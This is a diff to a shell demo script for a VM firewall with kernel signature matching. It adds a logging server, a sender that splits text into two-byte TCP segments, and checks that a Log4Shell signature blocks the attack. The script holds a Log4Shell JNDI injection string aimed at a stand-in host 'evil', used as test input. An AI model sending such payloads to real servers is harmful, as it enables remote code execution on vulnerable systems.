@@ -60,6 +60,39 @@ serve() {
 	echo "no server in $1"
 }
 
+# collect VM PORT: a server that writes down what it is sent, as a log does.
+collect() {
+	labvm exec "$1" -- socat -u "TCP-LISTEN:$2,fork,reuseaddr" "OPEN:/tmp/$1.log,creat,append" >/dev/null 2>&1 &
+	for _ in $(seq 50); do
+		[ -z "$(labvm exec "$1" -- ss -Hltn "sport = :$2")" ] || return 0
+		sleep 0.1
+	done
+	echo "no server in $1"
+}
+
+# request FROM TO TEXT TENTHS: sends it over TCP, two bytes in a segment, then looks for so long whether TO's log has it.
+request() {
+	labvm exec "$1" -- python3 -c '
+import socket, sys, time
+to, text = sys.argv[1:]
+try:
+    with socket.create_connection((to, 8081), 3) as s:
+        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        for i in range(0, len(text), 2):
+            s.send(text[i:i + 2].encode())
+            time.sleep(0.01)
+except OSError:
+    pass' "$(address "$2")" "$3"
+	for _ in $(seq "$4"); do
+		! grep -qF -- "$3" "/tmp/$2.log" 2>/dev/null || {
+			echo yes
+			return
+		}
+		sleep 0.1
+	done
+	echo no
+}
+
 mark() { wc -l <"$EVE" 2>/dev/null || echo 0; }
 
 # event MARK FILTER FIELD: the field of the first event since the mark that the jq filter selects.
@@ -97,14 +130,20 @@ for vm in shop-web shop-app shop-db garden-web garden-db; do
 	run labvm add $vm --tenant ${vm%-*} --label tier=${vm#*-} --ip "$(address $vm)/24" --bridge $bridge || exit 1
 done
 serve shop-app 8080
+collect shop-app 8081
 serve shop-db 5432
 serve garden-db 5432
 
 step "Without the firewall: everybody reaches everybody"
 row "before: shop-web opens shop-db:5432" answered "$(connect shop-web shop-db 5432)"
+attack='GET /?user=${jndi:ldap://evil/'
+row "before: an attack is in shop-app's log" yes "$(request shop-web shop-app "${attack}0} " 100)"
 
 step "The policy, and the firewall with it"
 sed 's/^/   /' "$here/demo.vfw"
+mkdir -p /etc/vfw/signatures
+cp "$here/demo.patterns" /etc/vfw/signatures/
+run cat /etc/vfw/signatures/demo.patterns
 run labvfw start --policy "$here/demo.vfw" || exit 1
 run vfwctl vm list
 
@@ -122,6 +161,13 @@ row "  the event says" "reject by shop:3, reason rule: web must not reach the da
 	"$(event "$m" "$drop" '"\(.vfw.verdict) by \(.vfw.rule), reason \(.vfw.reason): \(.vfw.message)"')"
 row "  vfwctl explain says" "reject by shop:3, reason rule" "$(explain shop-web shop-db 5432)"
 run vfwctl explain --from shop-web --to shop-db --proto tcp --dport 5432
+
+step "What it may open is looked into: signatures, matched in the kernel, on their way"
+m=$(mark)
+row "an ordinary request is in shop-app's log" yes "$(request shop-web shop-app 'GET /?user=alice ' 100)"
+row "an attack is, two bytes in a segment" no "$(request shop-web shop-app "${attack}1} " 10)"
+row "  the alert says" "blocked, 1000001: Log4Shell: JNDI lookup" \
+	"$(event "$m" '.event_type == "alert"' '"\(.alert.action), \(.alert.signature_id): \(.alert.signature)"')"
 
 step "A tap that belongs to no known VM: its first frame is dropped"
 m=$(mark)
@@ -152,6 +198,8 @@ run labvfw daemon kill
 row "vfwctl vm list" "exit 4, no daemon" "exit $(vfwctl vm list >/dev/null 2>&1; echo $?), no daemon"
 row "  shop-web opens shop-app:8080" answered "$(connect shop-web shop-app 8080)"
 row "  shop-web opens shop-db:5432" refused "$(connect shop-web shop-db 5432)"
+row "  an attack is in shop-app's log" no "$(request shop-web shop-app "${attack}2} " 10)"
+row "  an ordinary request is" yes "$(request shop-web shop-app 'GET /?user=bob ' 100)"
 row "  stranger opens shop-app:8080" silent "$(connect stranger shop-app 8080)"
 row "  vfwctl status asks the kernel: mode" armed \
 	"$(vfwctl status -o json 2>/dev/null | jq -r '.module.mode')"
